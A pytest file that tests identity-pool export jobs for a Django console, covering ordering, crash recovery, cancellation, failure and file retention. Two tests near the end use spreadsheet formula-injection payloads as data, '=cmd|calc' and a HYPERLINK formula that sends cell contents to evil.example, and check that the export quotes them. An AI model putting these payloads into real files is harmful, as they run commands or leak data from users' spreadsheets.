"""Exports: every identity of a pool exactly once in the file, however the pool changes or the
worker dies; developer user ids; cancel; a failed listing; retention."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest
from django.conf import settings
from django.utils import timezone

from console.audit.models import AuditEvent
from console.aws import jobs_calls
from console.emulator.models import Identity
from console.inventory.models import PoolState
from console.jobs import export, runner, walk
from console.jobs.models import Job, Kind, Status, WalkState
from tests.cognito import DEVELOPER, GOOGLE, login_token

from .conftest import developer_identity, guest_identities
from .export_helpers import export_dir, finish, ids_of, no_broker, records, start, steps  # noqa: F401 - fixture

pytestmark = pytest.mark.django_db


def iso(moment: datetime) -> str:
    """As the file writes a date: UTC, ISO 8601, to the millisecond the service answers with."""
    on_the_wire = datetime.fromtimestamp(round(moment.timestamp(), 3), UTC)
    return on_the_wire.isoformat(timespec="milliseconds").replace("+00:00", "Z")


@pytest.mark.parametrize("file_format", ["csv", "jsonl"])
def test_every_identity_is_written_once_with_its_logins_and_dates(cognito, pool_id, admin, file_format):
    guests = guest_identities(cognito, pool_id, 125)
    signed_in = developer_identity(cognito, pool_id, "dev-1", **{GOOGLE: login_token(GOOGLE, "g-1")})
    job = start(pool_id, admin, file_format)

    job = finish(job)

    assert (job.status, job.done, job.failed, job.error) == (Status.SUCCEEDED, 126, 0, "")
    rows = {record["identity_id"]: record for record in records(job)}
    assert ids_of(job) == [*guests, signed_in]
    stored = {row.identity_id: row for row in Identity.objects.filter(pool__pool_id=pool_id)}
    for identity_id, record in rows.items():
        assert record["creation_date"] == iso(stored[identity_id].created_at)
        assert record["last_modified_date"] == iso(stored[identity_id].modified_at)
    providers = rows[signed_in]["login_providers"]
    if file_format == "csv":
        assert sorted(providers.split(" ")) == sorted([DEVELOPER, GOOGLE])
        assert rows[guests[0]]["login_providers"] == ""
        assert (
            export.file_path(job)
            .read_bytes()
            .startswith(b"identity_id,login_providers,creation_date,last_modified_date\r\n")
        )
    else:
        assert sorted(providers) == sorted([DEVELOPER, GOOGLE])
        assert rows[guests[0]]["login_providers"] == []
    assert "developer_user_ids" not in rows[signed_in]
    assert job.file_size == export.file_path(job).stat().st_size
    assert job.cursor["pages"] == 3 and job.cursor["written"] == 126
    assert timedelta(days=6, hours=23) < job.file_expires_at - timezone.now() <= timedelta(days=7)
    started = AuditEvent.objects.get(operation="job.start")
    assert started.request["kind"] == "export" and started.request["format"] == file_format


def test_an_empty_pool_exports_just_the_header(pool_id, admin):
    job = finish(start(pool_id, admin))

    assert (job.status, job.done) == (Status.SUCCEEDED, 0)
    assert records(job) == []
    assert export.file_path(job).read_text().startswith("identity_id,")


@pytest.mark.parametrize("file_format", ["csv", "jsonl"])
def test_identities_added_and_deleted_during_the_export_appear_at_most_once(
    cognito, pool_id, admin, file_format
):
    before = guest_identities(cognito, pool_id, 300)
    job = start(pool_id, admin, file_format)
    steps(job, 2)  # 120 identities written
    written_already = before[10:20]
    not_reached = before[200:230]
    cognito.delete_identities(IdentityIdsToDelete=written_already + not_reached)
    added = guest_identities(cognito, pool_id, 70)
    steps(job, 1)
    cognito.delete_identities(IdentityIdsToDelete=added[:5])  # added, then deleted before reached
    added_later = guest_identities(cognito, pool_id, 3)

    job = finish(job)

    exported = ids_of(job)
    assert len(exported) == len(set(exported)), "an identity appears twice"
    survivors = [identity for identity in before if identity not in not_reached]
    assert exported == survivors + added[5:] + added_later
    assert set(written_already) <= set(exported)  # written before they were deleted
    assert not set(not_reached) & set(exported)
    assert job.done == len(exported)


def test_a_step_whose_worker_died_before_committing_is_written_again_exactly_once(
    cognito, pool_id, admin, monkeypatch
):
    identities = guest_identities(cognito, pool_id, 200)
    job = start(pool_id, admin)
    steps(job, 1)
    committed = Job.objects.get(pk=job.pk).cursor["size"]
    real_commit = walk.commit_step

    def die(*args, **kwargs):
        raise RuntimeError("the worker died between writing the page and committing it")

    monkeypatch.setattr(walk, "commit_step", die)
    claim = walk.claim_walk(job.pk)
    with pytest.raises(RuntimeError):
        export.step(claim)
    monkeypatch.setattr(walk, "commit_step", real_commit)
    path = export.file_path(job)
    assert path.stat().st_size > committed, "the dead step wrote nothing: the test tests nothing"
    assert Job.objects.get(pk=job.pk).cursor["size"] == committed

    # The dead worker's lease runs out; the reconciler takes the walk back and a new worker claims it.
    later = timezone.now() + timedelta(seconds=settings.JOB_LEASE_SECONDS + 1)
    assert walk.reconcile_walks(now=later, send=no_broker) == (1, 1)
    job = finish(job)

    assert (job.status, job.walk_claims) == (Status.SUCCEEDED, 3)
    assert ids_of(job) == identities
    assert job.file_size == path.stat().st_size
    assert job.done == 200


def test_developer_user_ids_are_looked_up_for_developer_identities_only(cognito, pool_id, admin, monkeypatch):
    guests = guest_identities(cognito, pool_id, 3)
    alone = developer_identity(cognito, pool_id, "=cmd|calc")
    merged = developer_identity(cognito, pool_id, "user-b")
    developer_identity(cognito, pool_id, "user-a")
    cognito.merge_developer_identities(
        SourceUserIdentifier="user-a",
        DestinationUserIdentifier="user-b",
        DeveloperProviderName=DEVELOPER,
        IdentityPoolId=pool_id,
    )
    looked_up = []
    real_lookup = jobs_calls.developer_user_ids_page

    def counting(pool, identity_id, token, **kwargs):
        looked_up.append(identity_id)
        return real_lookup(pool, identity_id, token, **kwargs)

    monkeypatch.setattr(jobs_calls, "developer_user_ids_page", counting)
    csv_job = finish(start(pool_id, admin, "csv", developer_ids=True))
    jsonl_job = finish(start(pool_id, admin, "jsonl", developer_ids=True))

    rows = {record["identity_id"]: record for record in records(jsonl_job)}
    assert rows[alone]["developer_user_ids"] == ["=cmd|calc"]
    assert sorted(rows[merged]["developer_user_ids"]) == ["user-a", "user-b"]
    assert all(rows[guest]["developer_user_ids"] == [] for guest in guests)
    cells = {record["identity_id"]: record for record in records(csv_job)}
    # A developer user id that would start a spreadsheet formula is quoted.
    assert cells[alone]["developer_user_ids"] == "'=cmd|calc"
    assert sorted(cells[merged]["developer_user_ids"].split(" ")) == ["user-a", "user-b"]
    assert cells[guests[0]]["developer_user_ids"] == ""
    # The merged-away source identity is listed (disabled, no logins) but needs no lookup.
    assert sorted(looked_up) == sorted([alone, merged] * 2)


def test_more_than_a_page_of_developer_user_ids_is_followed_to_its_end(cognito, pool_id, admin, monkeypatch):
    identity = developer_identity(cognito, pool_id, "user-1")
    pages = {None: (("user-1",), "page-2"), "page-2": (("user-61",), None)}
    asked = []

    def paged(pool, identity_id, token, **kwargs):
        asked.append(token)
        return pages[token]

    monkeypatch.setattr(jobs_calls, "developer_user_ids_page", paged)
    job = finish(start(pool_id, admin, "jsonl", developer_ids=True))

    assert asked == [None, "page-2"]
    assert records(job) == [
        {**records(job)[0], "identity_id": identity, "developer_user_ids": ["user-1", "user-61"]}
    ]


def test_developer_user_ids_are_refused_for_a_pool_without_a_developer_provider(cognito, admin):
    bare = cognito.create_identity_pool(IdentityPoolName="bare", AllowUnauthenticatedIdentities=True)

    with pytest.raises(export.ExportRefused, match="has no developer provider"):
        start(bare["IdentityPoolId"], admin, developer_ids=True)
    assert not Job.objects.exists()


def test_a_cancelled_export_stops_and_keeps_its_partial_file(cognito, pool_id, admin):
    guests = guest_identities(cognito, pool_id, 150)
    PoolState.objects.create(pool_id=pool_id, region="us-east-1", as_of=timezone.now(), total=150)
    job = start(pool_id, admin)
    steps(job, 1)
    path = export.file_path(job)
    assert path.exists()

    assert runner.cancel_job(job.pk, by=admin.username)
    job = finish(job)

    assert job.status == Status.CANCELLED
    assert job.done == 60  # the page written before the cancel, counted
    assert ids_of(job) == guests[:60]  # the file holds exactly that page
    assert job.file_size == path.stat().st_size == job.cursor["size"]
    assert job.params["partial_of"] == 150  # the pool's size in the inventory, for "60 of 150"
    expected_expiry = job.finished_at + timedelta(days=settings.JOB_EXPORT_RETENTION_DAYS)
    assert abs(job.file_expires_at - expected_expiry) < timedelta(seconds=5)
    assert job.walk_state == WalkState.LISTED


def test_a_cancelled_export_drops_lines_nobody_committed(cognito, pool_id, admin):
    guest_identities(cognito, pool_id, 150)
    job = start(pool_id, admin)
    steps(job, 1)
    path = export.file_path(job)
    committed = path.stat().st_size
    with path.open("ab") as handle:  # a worker that died between writing and committing
        handle.write(b"us-east-1:half-written,,,\r\n")

    runner.cancel_job(job.pk, by=admin.username)
    job = finish(job)

    assert path.stat().st_size == committed == job.file_size
    assert len(ids_of(job)) == 60


def test_an_export_cancelled_before_its_first_page_keeps_no_file(cognito, pool_id, admin):
    guest_identities(cognito, pool_id, 5)
    job = start(pool_id, admin)

    runner.cancel_job(job.pk, by=admin.username)
    job = finish(job)

    assert (job.status, job.done, job.file_name) == (Status.CANCELLED, 0, "")


def test_a_partial_file_is_kept_until_it_expires(cognito, pool_id, admin):
    guest_identities(cognito, pool_id, 150)
    job = start(pool_id, admin)
    steps(job, 1)
    runner.cancel_job(job.pk, by=admin.username)
    job = finish(job)
    path = export.file_path(job)

    assert export.expire_files(now=job.file_expires_at - timedelta(minutes=1)) == 0
    assert path.exists()
    assert export.expire_files(now=job.file_expires_at + timedelta(minutes=1)) == 1
    assert not path.exists()


def test_an_export_of_a_deleted_pool_fails_and_says_why(cognito, pool_id, admin):
    guest_identities(cognito, pool_id, 70)
    job = start(pool_id, admin)
    steps(job, 1)
    path = export.file_path(job)
    cognito.delete_identity_pool(IdentityPoolId=pool_id)

    job = finish(job)

    # Failed, not partially: without its file, what was written is worth nothing.
    assert job.status == Status.FAILED
    assert "ResourceNotFoundException" in job.error
    assert "partial file was removed" in job.error
    assert not path.exists() and job.file_name == ""


def test_an_export_whose_pool_is_gone_before_it_starts_fails(cognito, pool_id, admin):
    job = start(pool_id, admin)
    cognito.delete_identity_pool(IdentityPoolId=pool_id)

    job = finish(job)

    assert (job.status, job.done) == (Status.FAILED, 0)
    assert "ResourceNotFoundException" in job.error


def test_a_lost_file_stops_the_export_instead_of_leaving_a_hole(cognito, pool_id, admin):
    guest_identities(cognito, pool_id, 130)
    job = start(pool_id, admin)
    steps(job, 1)
    export.file_path(job).unlink()  # a worker host that does not share JOB_EXPORT_DIR

    job = finish(job)

    assert job.status == Status.FAILED
    assert "JOB_EXPORT_DIR" in job.error
    assert job.file_name == ""


def test_files_are_removed_after_their_retention_and_the_job_remembers_when(cognito, pool_id, admin):
    guest_identities(cognito, pool_id, 5)
    job = finish(start(pool_id, admin))
    path = export.file_path(job)
    expires = job.file_expires_at

    assert export.expire_files(now=expires - timedelta(minutes=1)) == 0
    assert path.exists()
    assert export.expire_files(now=expires + timedelta(minutes=1)) == 1

    job.refresh_from_db()
    assert not path.exists()
    assert (job.file_name, job.file_expires_at) == ("", expires)
    assert export.expire_files(now=expires + timedelta(days=1)) == 0


def test_the_expiry_task_is_on_beats_schedule():
    entries = [entry["task"] for entry in settings.CELERY_BEAT_SCHEDULE.values()]
    assert "console.jobs.expire_export_files" in entries


def test_an_unknown_format_or_pool_starts_nothing(admin):
    with pytest.raises(export.ExportRefused, match="not an export format"):
        start("us-east-1:0a1b2c3d-0000-4000-8000-000000000001", admin, "xml")
    with pytest.raises(export.ExportRefused, match="ResourceNotFoundException"):
        start("us-east-1:0a1b2c3d-0000-4000-8000-000000000001", admin)
    assert not Job.objects.filter(kind=Kind.EXPORT).exists()


def test_a_provider_key_that_starts_a_formula_is_quoted_in_the_csv(cognito, make_pool, admin):
    # The service accepts any provider name as a SupportedLoginProviders key; a spreadsheet
    # would run this one as a live link if the cell were written as is.
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    pool_id = make_pool("formula", SupportedLoginProviders={formula: "app-id"})
    signed_in = cognito.get_id(IdentityPoolId=pool_id, Logins={formula: "user-1"})["IdentityId"]

    job = finish(start(pool_id, admin))

    rows = {record["identity_id"]: record for record in records(job)}
    assert rows[signed_in]["login_providers"] == "'" + formula
